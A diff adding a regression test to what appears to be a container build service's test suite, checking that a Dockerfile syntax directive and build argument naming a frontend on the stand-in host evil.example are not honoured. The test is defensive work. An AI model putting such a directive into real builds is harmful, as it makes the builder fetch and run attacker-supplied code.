@@ -156,6 +156,14 @@ def test_labels_of_the_request_are_in_the_image_and_not_in_the_key(mysite: Site)
     assert all(cached(mysite, SITE, labels={"one": "2"}))
 
 
+def test_row_54_cve_2026_33747_no_front_end_is_taken_from_elsewhere(site: Site) -> None:
+    """A front end named by the file is a program of its author's: ours is built in."""
+    site.write("index.html", "hello")
+    for text in ("# syntax=evil.example/front:1\nFROM scratch\nCOPY index.html /",):
+        assert site.build(text, build_args={"BUILDKIT_SYNTAX": "evil.example/front:1"}).id
+    assert [image.tags for image in site.images.list(all=True)] == [()]
+
+
 def test_an_invalid_tag_is_refused_before_anything_is_done(site: Site) -> None:
     with pytest.raises(InvalidInput):
         site.build("FROM scratch\nRUN x", tags=("UPPER",))
